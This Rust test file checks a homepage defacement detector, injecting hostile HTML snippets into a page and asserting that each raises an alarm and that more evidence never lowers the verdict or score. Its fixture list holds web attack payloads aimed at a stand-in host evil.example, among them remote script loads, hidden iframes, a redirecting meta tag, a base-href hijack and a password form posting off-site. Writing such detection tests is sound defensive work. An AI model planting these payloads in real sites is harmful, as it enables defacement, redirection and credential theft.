//! More evidence never calms: end to end, from the page to the verdict.
#![allow(
    clippy::unwrap_used,
    clippy::format_collect,
    clippy::format_push_string,
    reason = "pages are put together as text; a test may panic"
)]

mod common;

use std::sync::LazyLock;

use common::{Watch, front, told};
use frontwatch_core::verdict::Verdict;
use frontwatch_core::watch::WatchKind;
use proptest::prelude::*;

/// Attacks each of which alarms alone, with the place that each is put in.
const ATTACKS: &[(Place, &str)] = &[
    (Place::Top, "<div style='position:fixed;inset:0'><img src=//evil.example/a.png></div>"),
    (Place::Top, "<iframe src='//evil.example/d' style='position:fixed;inset:0'></iframe>"),
    (Place::Top, "<h1>Hacked by nobody</h1>"),
    (Place::Top, "<p><img src='https://evil.example/p1.png' width=900></p>"),
    (Place::Top, "<p>The truth will come to light soon</p>"),
    (Place::Head, "<meta http-equiv=refresh content='0;url=//evil.example'>"),
    (Place::Head, "<base href='https://evil.example/'>"),
    (Place::Head, "<style>body{display:none}</style>"),
    (Place::Tail, "<script src=https://evil.example/x.js></script>"),
    (Place::Tail, "<iframe src=//evil.example width=1 height=1></iframe>"),
    (Place::Tail, "<script>document.documentElement.innerHTML=atob('PGgxPg==')</script>"),
    (Place::Tail, "<script>if(!document.cookie){window.location.href='https://evil.example/win'}</script>"),
    (Place::Tail, "<a href=//pills.example hidden>x</a><a href=//bets.example hidden>y</a>"),
    (Place::Tail, "<audio src=/uploads/a.mp3 autoplay loop></audio>"),
    (Place::Tail, "<form action=https://evil.example/c><input type=password></form>"),
    (Place::Tail, "<style>body::before{content:'Remember this day'}</style>"),
];

/// What comes from elsewhere, alone or not.
const SOURCES: &[(Place, &str)] = &[
    (Place::Tail, "<script src=https://one.stranger.example/x.js></script>"),
    (Place::Head, "<script src=https://two.stranger.example/x.js></script>"),
    (Place::Tail, "<script async src=https://cdn.taboola.com/loader.js></script>"),
    (Place::Tail, "<script src=https://x.github.io/x.js></script>"),
    (Place::Tail, "<link rel=stylesheet href=https://paint.stranger.example/a.css>"),
    (Place::Head, "<link rel=icon href=https://icon.stranger.example/a.png>"),
];

#[derive(Debug, Clone, Copy)]
enum Place {
    Head,
    Top,
    Tail,
}

fn put(page: &str, (place, what): (Place, &str)) -> String {
    match place {
        Place::Head => page.replacen("</head>", &format!("{what}</head>"), 1),
        Place::Top => page.replacen("<body class=\"front\">", &format!("<body class=\"front\">{what}"), 1),
        Place::Tail => page.replacen("</body>", &format!("{what}</body>"), 1),
    }
}

static WATCH: LazyLock<Watch> = LazyLock::new(|| Watch::learned(WatchKind::Homepage, front, 9));

/// An ordinary look, or one hours or days later: much is new then, and what comes with it counts for less.
fn looks() -> impl Strategy<Value = usize> {
    prop::sample::select(&[9_usize, 10, 14, 29][..])
}

fn attacks(most: usize) -> impl Strategy<Value = Vec<(Place, &'static str)>> {
    prop::sample::subsequence(ATTACKS.to_vec(), 1..=most).prop_shuffle()
}

#[test]
fn each_attack_alarms_alone() {
    for attack in ATTACKS {
        let judged = WATCH.judge(&put(&front(9), *attack));
        assert_eq!(judged.judgement.verdict, Verdict::Alarm, "{}: {}", attack.1, told(&judged));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn one_attack_more_never_ends_an_alarm(look in looks(), attacks in attacks(6)) {
        let mut page = front(look);
        let mut alarmed = false;
        for attack in attacks {
            page = put(&page, attack);
            let judged = WATCH.judge(&page);
            let alarms = judged.judgement.verdict == Verdict::Alarm;
            prop_assert!(alarms || !alarmed, "{}: {}", attack.1, told(&judged));
            alarmed |= alarms;
        }
        prop_assert!(alarmed);
    }

    #[test]
    fn one_source_from_elsewhere_more_never_lowers_the_score(
        look in looks(),
        attacks in attacks(2),
        sources in prop::sample::subsequence(SOURCES.to_vec(), 1..=3).prop_shuffle(),
        attacked in any::<bool>(),
    ) {
        let mut page = front(look);
        for attack in attacks.into_iter().filter(|_| attacked) {
            page = put(&page, attack);
        }
        let mut score = WATCH.judge(&page).judgement.score;
        for source in sources {
            page = put(&page, source);
            let judged = WATCH.judge(&page);
            prop_assert!(judged.judgement.score >= score - 1e-9, "{score} before {}: {}", source.1, told(&judged));
            score = judged.judgement.score;
        }
    }
}
